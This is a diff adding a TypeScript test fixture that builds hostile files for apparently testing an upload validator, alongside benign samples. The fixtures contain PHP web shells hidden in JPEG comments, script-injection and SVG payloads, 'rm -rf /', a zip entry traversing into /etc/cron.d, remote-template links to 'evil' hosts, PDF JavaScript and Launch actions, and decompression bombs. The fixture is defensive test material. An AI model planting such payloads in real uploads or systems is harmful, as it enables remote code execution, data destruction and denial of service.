@@ -1,0 +1,143 @@
+import { deflateSync, gzipSync } from 'node:zlib'
+import { strToU8, zipSync, type Zippable } from 'fflate'
+import sharp from 'sharp'
+
+export interface HostileFile {
+  readonly name: string
+  readonly bytes: Buffer
+  /** Taken, without this in what is kept; without it the file is refused. */
+  readonly without?: string
+}
+
+const picture = (format: 'jpeg' | 'png' | 'gif' | 'tiff' | 'webp' | 'avif') =>
+  sharp({ create: { width: 64, height: 48, channels: 3, background: '#004832' } })
+    .toFormat(format)
+    .toBuffer()
+
+const [jpeg, png, gif, tiff, webp, avif] = await Promise.all([
+  picture('jpeg'),
+  picture('png'),
+  picture('gif'),
+  picture('tiff'),
+  picture('webp'),
+  picture('avif'),
+])
+const located = await sharp(jpeg)
+  .withExif({ IFD0: { Artist: 'secret-artist' }, IFD3: { GPSLatitude: '40/1 42/1 46/1', GPSLatitudeRef: 'N' } })
+  .jpeg()
+  .toBuffer()
+
+/** A JPEG with one more segment behind its first marker. */
+function withComment(text: string): Buffer {
+  const length = Buffer.alloc(2)
+  length.writeUInt16BE(text.length + 2)
+  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, Buffer.from(text), jpeg.subarray(2)])
+}
+
+/** The same picture that says it is far larger. */
+function claiming(bytes: Buffer, at: number, [width, height]: readonly [number, number]): Buffer {
+  const copy = Buffer.from(bytes)
+  copy.writeUInt32BE(width, at)
+  copy.writeUInt32BE(height, at + 4)
+  return copy
+}
+
+function largeJpeg(): Buffer {
+  const copy = Buffer.from(jpeg)
+  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]))
+  copy.writeUInt16BE(65_000, frame + 5)
+  copy.writeUInt16BE(65_000, frame + 7)
+  return copy
+}
+
+const document: Zippable = {
+  '[Content_Types].xml': strToU8('<Types><Default Extension="xml" ContentType="application/xml"/></Types>'),
+  'word/document.xml': strToU8('<w:document><w:body><w:p>Curriculum vitae</w:p></w:body></w:document>'),
+}
+const docx = (more: Zippable = {}) => Buffer.from(zipSync({ ...document, ...more }))
+const relation = (type: string, target: string) =>
+  strToU8(`<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`)
+
+const pdf = (body = '', after = '') =>
+  Buffer.from(
+    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n${after}`,
+    'latin1',
+  )
+const objectStream = (content: Buffer) =>
+  Buffer.concat([
+    Buffer.from('%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
+    deflateSync(content),
+    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
+  ])
+
+/** Files that nobody sends by mistake, and some that one might: each is refused, or kept without what made it one of them. */
+export const hostileFiles: readonly HostileFile[] = [
+  { name: 'comment.jpg', bytes: withComment('<?php system($_GET[0]); ?>'), without: '<?php' },
+  { name: 'script-comment.jpg', bytes: withComment('<script>alert(1)</script>'), without: '<script' },
+  { name: 'archive-behind.jpg', bytes: Buffer.concat([jpeg, docx()]), without: 'PK\x03\x04' },
+  { name: 'page-behind.jpg', bytes: Buffer.concat([jpeg, Buffer.from('<html><script>1</script>')]), without: '<script' },
+  { name: 'program-behind.png', bytes: Buffer.concat([png, Buffer.from('MZ this program')]), without: 'MZ this' },
+  { name: 'page-behind.webp', bytes: Buffer.concat([webp, Buffer.from('<html>here')]), without: '<html>' },
+  { name: 'located.jpg', bytes: located, without: 'secret-artist' },
+  { name: 'shell.php.jpg', bytes: withComment('<?= `id` ?>'), without: '<?=' },
+  { name: 'bomb.png', bytes: claiming(png, 16, [50_000, 50_000]) },
+  { name: 'wide.png', bytes: claiming(png, 16, [2_000_000_000, 1]) },
+  { name: 'bomb.jpg', bytes: largeJpeg() },
+  { name: 'cut.jpg', bytes: jpeg.subarray(0, jpeg.length - 60) },
+  { name: 'cut.png', bytes: png.subarray(0, png.length - 40) },
+  { name: 'head-only.avif', bytes: Buffer.concat([avif.subarray(0, 40), Buffer.alloc(2000, 0xff)]) },
+  { name: 'head-only.jpg', bytes: Buffer.concat([jpeg.subarray(0, 3), Buffer.from('<script>alert(1)</script>')]) },
+  { name: 'head-only.webp', bytes: Buffer.from('RIFF\xff\xff\xff\xffWEBPVP8X0000', 'latin1') },
+  { name: 'moving.gif', bytes: gif },
+  { name: 'script.gif', bytes: Buffer.from('GIF89a/*\x01\x01*/=1;alert(1)', 'latin1') },
+  { name: 'scan.tiff', bytes: tiff },
+  { name: 'picture.bmp', bytes: Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]) },
+  { name: 'drawing.svg', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
+  { name: 'drawing.png', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>') },
+  { name: 'page.jpg', bytes: Buffer.from('<!doctype html><script>alert(1)</script>') },
+  { name: 'script.png', bytes: Buffer.from('fetch("//evil")') },
+  { name: 'shell.jpg', bytes: Buffer.from('<?php system("id");') },
+  { name: '.htaccess', bytes: Buffer.from('AddType application/x-httpd-php .jpg') },
+  { name: 'program.pdf', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01', 'latin1'), Buffer.alloc(500)]) },
+  { name: 'program.docx', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]) },
+  { name: 'run.sh.pdf', bytes: Buffer.from('#!/bin/sh\nrm -rf /') },
+  { name: 'packed.pdf', bytes: gzipSync(pdf()) },
+  { name: 'archive.docx', bytes: Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })) },
+  { name: 'sheet.docx', bytes: Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<x/>') })) },
+  { name: 'macro.docx', bytes: docx({ 'word/vbaProject.bin': strToU8('attribut') }) },
+  {
+    name: 'macro-type.docx',
+    bytes: docx({
+      '[Content_Types].xml': strToU8('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
+    }),
+  },
+  { name: 'bomb.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(80_000_000), { level: 9 }] }) },
+  { name: 'ratio.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(20_000_000), { level: 9 }] }) },
+  { name: 'many.docx', bytes: docx(Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`word/a${index}.xml`, strToU8('x')]))) },
+  { name: 'climbing.docx', bytes: docx({ '../../etc/cron.d/job': strToU8('* * * * * root id') }) },
+  { name: 'rooted.docx', bytes: docx({ '/etc/passwd': strToU8('root') }) },
+  { name: 'template.docx', bytes: docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil/t.dotm') }) },
+  { name: 'frame.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil/o') }) },
+  { name: 'embedded.docx', bytes: docx({ 'word/embeddings/oleObject1.bin': strToU8('MZ') }) },
+  { name: 'page-behind.docx', bytes: Buffer.concat([docx(), Buffer.from('<html>')]) },
+  { name: 'script.pdf', bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>') },
+  { name: 'disguised.pdf', bytes: pdf('/OpenAction << /S /J#61vaScr#69pt >>') },
+  { name: 'hidden.pdf', bytes: objectStream(Buffer.from('3 0 << /S /JavaScript >>')) },
+  { name: 'bomb.pdf', bytes: objectStream(Buffer.alloc(50_000_000)) },
+  { name: 'launch.pdf', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') },
+  { name: 'carrier.pdf', bytes: pdf('/Names << /EmbeddedFiles 9 0 R >>') },
+  { name: 'sealed.pdf', bytes: pdf('/Encrypt 8 0 R') },
+  { name: 'archive-behind.pdf', bytes: Buffer.concat([pdf(), docx()]) },
+  { name: 'page-before.pdf', bytes: Buffer.concat([Buffer.from('<html><script>1</script>'), pdf()]) },
+  { name: 'cut.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') },
+]
+
+/** What people do send. */
+export const goodFiles = {
+  jpeg,
+  png,
+  webp,
+  avif,
+  pdf: pdf(),
+  docx: docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com') }),
+}
